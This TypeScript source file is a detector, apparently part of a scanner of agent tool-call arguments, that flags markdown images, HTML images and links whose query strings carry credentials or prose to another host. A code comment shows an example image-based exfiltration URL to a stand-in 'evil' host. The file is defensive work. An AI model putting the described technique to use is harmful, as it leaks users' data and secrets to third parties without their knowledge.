import type { ScanTarget } from "./argument-walk.js";
import { type PayloadScan, hostOf } from "./payload-scan.js";
import { holdsSecret } from "./secrets.js";
import { percentDecode } from "./text-decoding.js";

/*
 * Links and images inside a message body that carry data to another host in their query string. A
 * markdown image or an <img> is fetched as soon as the message is rendered, so "![x](https://evil/?q=…)"
 * sends what follows "q=" without anyone clicking; a link sends it when clicked. Only the query is read:
 * a docs page or a tracking id carries nothing of the user's, while a sentence, an e-mail address (for
 * an image) or a credential does.
 */

const MARKDOWN_IMAGE = /!\[[^\]\n]{0,200}\]\(\s{0,2}(https?:\/\/[^\s)]{1,2048})/gi;
const HTML_IMAGE = /<img\b[^>]{0,500}?\bsrc\s{0,2}=\s{0,2}["']?(https?:\/\/[^\s"'>]{1,2048})/gi;
const ANY_URL = /https?:\/\/[^\s"'<>()[\]]{1,2048}/gi;
/** URLs read per string: each is a short bounded parse, and a message holds a few. */
const MAX_URLS = 32;
const MAX_QUERY_PARAMS = 32;
/** Decoded query text that reads as sentences, not as a search term or an id. */
const LINK_TEXT_SPACES = 3;
const IMAGE_TEXT_SPACES = 2;
const MIN_TEXT_LENGTH = 24;
/** An id an image needs is short; a longer value is more than the image needs to load. */
const IMAGE_MAX_PLAIN_VALUE = 64;
const EMAIL = /[\w.+-]{1,64}@[\w-]{1,63}\.[a-z]{2,24}/i;

type Carried = "secret" | "text" | null;

export function detectDataLinks(target: ScanTarget, scan: PayloadScan): void {
  const { text } = target;
  if (target.role !== "value" || !text.includes("://") || !text.includes("?")) return;
  // A value that is nothing but a URL is a request the tool makes, which the SSRF and scope checks judge.
  if (target.profile.spaces === 0 && target.profile.newlines === 0 && !text.includes("<")) return;

  let worst: { carried: Exclude<Carried, null>; image: boolean } | null = null;
  let seen = 0;
  const images = new Set<string>();
  for (const pattern of [MARKDOWN_IMAGE, HTML_IMAGE]) {
    pattern.lastIndex = 0;
    for (let m = pattern.exec(text); m !== null && seen < MAX_URLS; m = pattern.exec(text), seen++) {
      const url = m[1] ?? "";
      images.add(url);
      const carried = carriedData(url, scan, true);
      if (carried !== null && (worst === null || carried === "secret")) worst = { carried, image: true };
    }
  }
  ANY_URL.lastIndex = 0;
  for (let m = ANY_URL.exec(text); m !== null && seen < MAX_URLS; m = ANY_URL.exec(text), seen++) {
    if (images.has(m[0]) || worst?.carried === "secret") continue;
    const carried = carriedData(m[0], scan, false);
    if (carried !== null && (worst === null || carried === "secret")) worst = { carried, image: false };
  }
  if (worst === null) return;

  const kind = worst.image ? "an image" : "a link";
  if (worst.carried === "secret") {
    scan.report({
      detector: "exfiltration",
      code: "payload.exfiltration.secret_in_link",
      message: `A message holds ${kind} whose address carries a credential to another host.`,
      severity: "critical",
      path: target.path,
    });
    return;
  }
  scan.report({
    detector: "exfiltration",
    code: worst.image ? "payload.exfiltration.data_in_image" : "payload.exfiltration.data_in_link",
    message: worst.image
      ? "A message holds an image whose address carries text to another host; rendering it sends that text."
      : "A message holds a link whose address carries text to another host.",
    severity: "suspicious",
    path: target.path,
  });
}

function carriedData(url: string, scan: PayloadScan, image: boolean): Carried {
  const question = url.indexOf("?");
  if (question === -1) return null;
  if (scan.context.destinationInScope && hostOf(url) === scan.destinationHost) return null;
  const hash = url.indexOf("#", question);
  const query = url.slice(question + 1, hash === -1 ? url.length : hash);
  let params = 0;
  let carried: Carried = null;
  for (const pair of query.split("&")) {
    if (++params > MAX_QUERY_PARAMS) break;
    const raw = pair.slice(pair.indexOf("=") + 1);
    if (raw.length === 0) continue;
    const value = raw.includes("%") || raw.includes("+") ? percentDecode(raw) : raw;
    if (holdsSecret(value)) return "secret";
    if (carried === null && readsAsData(value, image)) carried = "text";
  }
  return carried;
}

function readsAsData(value: string, image: boolean): boolean {
  if (image && (EMAIL.test(value) || value.length > IMAGE_MAX_PLAIN_VALUE)) return true;
  if (value.length < MIN_TEXT_LENGTH) return false;
  let spaces = 0;
  for (let i = 0; i < value.length; i++) if (value.charCodeAt(i) === 0x20 || value.charCodeAt(i) === 0x0a) spaces++;
  return spaces >= (image ? IMAGE_TEXT_SPACES : LINK_TEXT_SPACES);
}
